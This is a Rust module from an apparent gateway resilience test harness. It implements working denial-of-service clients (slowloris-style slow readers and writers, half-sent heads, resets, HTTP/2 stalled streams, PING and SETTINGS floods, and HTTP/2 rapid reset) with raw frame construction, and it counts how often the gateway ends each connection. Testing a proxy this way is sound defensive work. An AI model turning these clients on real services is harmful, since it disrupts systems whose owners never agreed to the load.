//! Clients that mean harm: each kind does one thing that hurts a careless proxy, again and again.
//!
//! All live on one thread with the lowest priority, so that on a small machine their own work does
//! not pass for the gateway's harm. A client whose connection was ended by the gateway opens
//! another after a pause, as an attacker would.

use std::cell::RefCell;
use std::convert::Infallible;
use std::io;
use std::net::SocketAddr;
use std::rc::Rc;
use std::thread::JoinHandle;
use std::time::Duration;

use anyhow::{Result, anyhow};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::oneshot;
use tokio::task::{LocalSet, spawn_local};
use tokio::time::sleep;

use crate::origin::Service;
use crate::sys;

/// The weakest claim on a processor.
const NICE: i32 = 19;
/// Before a connection that was ended is opened again.
const PAUSE: Duration = Duration::from_millis(200);
/// Between two bytes of somebody slow: fast enough not to be idle.
const DRIP: Duration = Duration::from_millis(500);
/// Between two attempts of those who reset: 40 of them make 40 requests a second.
const RESET_EVERY: Duration = Duration::from_secs(1);
/// What a reader that does not read has room for.
const SMALL_BUFFER: u32 = 4096;
/// Far more than the gateway and two kernels hold.
const LARGE_BODY: &str = "8388608";
/// HTTP/2 streams of one client that stall.
const STALLED_STREAMS: u32 = 8;
/// Frames in one write of a flood: 9 to 22 KiB.
const FLOOD_FRAMES: u32 = 1000;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// What a client does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Kind {
    /// Asks for much and reads nothing.
    SlowReader,
    /// Sends a body byte by byte.
    SlowWriter,
    /// Sends half a head.
    HalfHead,
    /// Asks and resets the connection.
    Reset,
    /// HTTP/2 streams without a window.
    StalledStreams,
    /// PING as fast as the socket takes.
    PingFlood,
    /// SETTINGS as fast as the socket takes.
    SettingsFlood,
    /// HEADERS and RST_STREAM as fast as the socket takes.
    RapidReset,
}

impl Kind {
    pub(super) const ALL: [Self; 8] = [
        Self::SlowReader,
        Self::SlowWriter,
        Self::HalfHead,
        Self::Reset,
        Self::StalledStreams,
        Self::PingFlood,
        Self::SettingsFlood,
        Self::RapidReset,
    ];

    /// The kind of this name.
    pub(super) fn parse(name: &str) -> std::result::Result<Self, String> {
        let names = || Self::ALL.map(Self::name).join(", ");
        let of = Self::ALL.into_iter().find(|kind| kind.name() == name);
        of.ok_or_else(|| format!("there is no such kind; there are {}", names()))
    }

    pub(super) fn name(self) -> &'static str {
        match self {
            Self::SlowReader => "slow readers",
            Self::SlowWriter => "slow writers",
            Self::HalfHead => "half heads",
            Self::Reset => "resets",
            Self::StalledStreams => "stalled h2 streams",
            Self::PingFlood => "h2 PING floods",
            Self::SettingsFlood => "h2 SETTINGS floods",
            Self::RapidReset => "h2 rapid resets",
        }
    }
}

/// What clients of one kind went through.
#[derive(Debug, Clone, Copy, Default)]
pub(super) struct Tally {
    pub(super) clients: usize,
    /// Connections opened.
    pub(super) opened: u64,
    /// Of these, ended by the gateway.
    pub(super) ended: u64,
    pub(super) bytes: u64,
}

/// Hostile clients that run until they are stopped.
pub(super) struct Hostile {
    stop: oneshot::Sender<()>,
    thread: JoinHandle<Vec<(Kind, Tally)>>,
}

impl Hostile {
    /// Starts in the network namespace of the caller.
    pub(super) fn start(at: SocketAddr, clients: usize, kinds: &[Kind]) -> Result<Self> {
        let kinds = kinds.to_vec();
        let (stop, stopped) = oneshot::channel();
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
        let thread = std::thread::Builder::new().name("hostile".into()).spawn(move || {
            sys::renice(NICE);
            runtime.block_on(LocalSet::new().run_until(async move {
                let tallies: Vec<_> =
                    kinds.iter().map(|kind| (*kind, Rc::<RefCell<Tally>>::default())).collect();
                for (_, (kind, tally)) in (0..clients).zip(tallies.iter().cycle()) {
                    tally.borrow_mut().clients += 1;
                    spawn_local(keep(*kind, at, Rc::clone(tally)));
                }
                // An error means that whoever could stop them has gone.
                drop(stopped.await);
                tallies.iter().map(|(kind, tally)| (*kind, *tally.borrow())).collect()
            }))
        })?;
        Ok(Self { stop, thread })
    }

    /// Stops all of them; what they went through.
    pub(super) fn stop(self) -> Vec<(Kind, Tally)> {
        drop(self.stop);
        self.thread.join().unwrap_or_default()
    }
}

async fn keep(kind: Kind, at: SocketAddr, tally: Rc<RefCell<Tally>>) {
    loop {
        if let Ok(stream) = open(kind, at).await {
            tally.borrow_mut().opened += 1;
            // Every attack ends with an error: that the gateway ended the connection.
            let Err(_) = attack(kind, stream, &tally).await;
            if kind != Kind::Reset {
                tally.borrow_mut().ended += 1;
            }
        }
        sleep(if kind == Kind::Reset { RESET_EVERY } else { PAUSE }).await;
    }
}

async fn open(kind: Kind, at: SocketAddr) -> io::Result<TcpStream> {
    let socket = if at.is_ipv4() { TcpSocket::new_v4() } else { TcpSocket::new_v6() }?;
    if kind == Kind::SlowReader {
        socket.set_recv_buffer_size(SMALL_BUFFER)?;
    }
    socket.connect(at).await
}

async fn attack(kind: Kind, mut stream: TcpStream, tally: &RefCell<Tally>) -> Result<Infallible> {
    match kind {
        Kind::SlowReader => {
            stream.write_all(&get(Service::Registry, LARGE_BODY)).await?;
            // A reader that takes a byte now and then is not idle.
            loop {
                sleep(DRIP).await;
                read(&mut stream, &mut [0; 1], tally).await?;
            }
        }
        Kind::SlowWriter => {
            let host = Service::Metrics.host();
            let head = format!(
                "POST /api/v1/write HTTP/1.1\r\nhost: {host}\r\n\
                 content-length: {LARGE_BODY}\r\n\r\n"
            );
            stream.write_all(head.as_bytes()).await?;
            drip(&mut stream, tally).await
        }
        Kind::HalfHead => {
            stream.write_all(b"GET / HTTP/1.1\r\nhost: registry.exam").await?;
            drip(&mut stream, tally).await
        }
        Kind::Reset => {
            stream.write_all(&get(Service::Registry, "1024")).await?;
            stream.set_zero_linger()?;
            Err(anyhow!("reset"))
        }
        Kind::StalledStreams => {
            let mut bytes = PREFACE.to_vec();
            // SETTINGS_INITIAL_WINDOW_SIZE is zero: nobody ever sends a byte of a body.
            frame(&mut bytes, 4, 0, 0, &[0, 4, 0, 0, 0, 0]);
            for number in 0..STALLED_STREAMS {
                frame(&mut bytes, 1, 5, 2 * number + 1, &request(LARGE_BODY));
            }
            stream.write_all(&bytes).await?;
            loop {
                read(&mut stream, &mut [0; 4096], tally).await?;
            }
        }
        Kind::PingFlood => flood(stream, |bytes, _| frame(bytes, 6, 0, 0, &[7; 8]), tally).await,
        Kind::SettingsFlood => flood(stream, |bytes, _| frame(bytes, 4, 0, 0, &[]), tally).await,
        Kind::RapidReset => {
            let block = request("1024");
            let reset = |bytes: &mut Vec<u8>, number: u32| {
                let stream = 2 * number + 1;
                frame(bytes, 1, 5, stream, &block);
                frame(bytes, 3, 0, stream, &[0, 0, 0, 8]);
            };
            flood(stream, reset, tally).await
        }
    }
}

/// Sends a byte now and then; looks whether the other side has had enough.
async fn drip(stream: &mut TcpStream, tally: &RefCell<Tally>) -> Result<Infallible> {
    let mut answer = [0; 1024];
    loop {
        tokio::select! {
            read = read(stream, &mut answer, tally) => {
                read?;
                continue;
            }
            () = sleep(DRIP) => {}
        }
        stream.write_all(b"a").await?;
    }
}

/// Frames as fast as the socket takes them, answers read as fast as they come.
async fn flood(
    stream: TcpStream,
    next: impl Fn(&mut Vec<u8>, u32),
    tally: &RefCell<Tally>,
) -> Result<Infallible> {
    let (mut from, mut to) = stream.into_split();
    let write = async {
        let mut bytes = PREFACE.to_vec();
        frame(&mut bytes, 4, 0, 0, &[]);
        for round in 0..u32::MAX / FLOOD_FRAMES / 2 {
            for number in 0..FLOOD_FRAMES {
                next(&mut bytes, round * FLOOD_FRAMES + number);
            }
            to.write_all(&bytes).await?;
            bytes.clear();
            tokio::task::yield_now().await;
        }
        Err::<Infallible, _>(anyhow!("no stream is left"))
    };
    let read = async {
        let mut buffer = vec![0; 16_384];
        loop {
            let bytes = from.read(&mut buffer).await?;
            if bytes == 0 {
                return Err::<Infallible, _>(anyhow!("ended"));
            }
            tally.borrow_mut().bytes += bytes as u64;
        }
    };
    tokio::select! {
        ended = write => ended,
        ended = read => ended,
    }
}

async fn read(stream: &mut TcpStream, into: &mut [u8], tally: &RefCell<Tally>) -> Result<()> {
    let bytes = stream.read(into).await?;
    if bytes == 0 {
        return Err(anyhow!("ended"));
    }
    tally.borrow_mut().bytes += bytes as u64;
    Ok(())
}

fn get(service: Service, bytes: &str) -> Vec<u8> {
    format!("GET /blob/{bytes} HTTP/1.1\r\nhost: {}\r\n\r\n", service.host()).into_bytes()
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    bytes.extend_from_slice(&length[1..]);
    bytes.extend_from_slice(&[kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
}

/// A header block of literals that no table knows.
fn request(bytes: &str) -> Vec<u8> {
    let path = format!("/blob/{bytes}");
    let fields = [
        (":method", "GET"),
        (":scheme", "http"),
        (":path", &*path),
        (":authority", Service::Registry.host()),
    ];
    let mut block = Vec::new();
    for (name, value) in fields {
        block.push(0);
        for text in [name, value] {
            block.push(u8::try_from(text.len()).unwrap_or_default());
            block.extend_from_slice(text.as_bytes());
        }
    }
    block
}
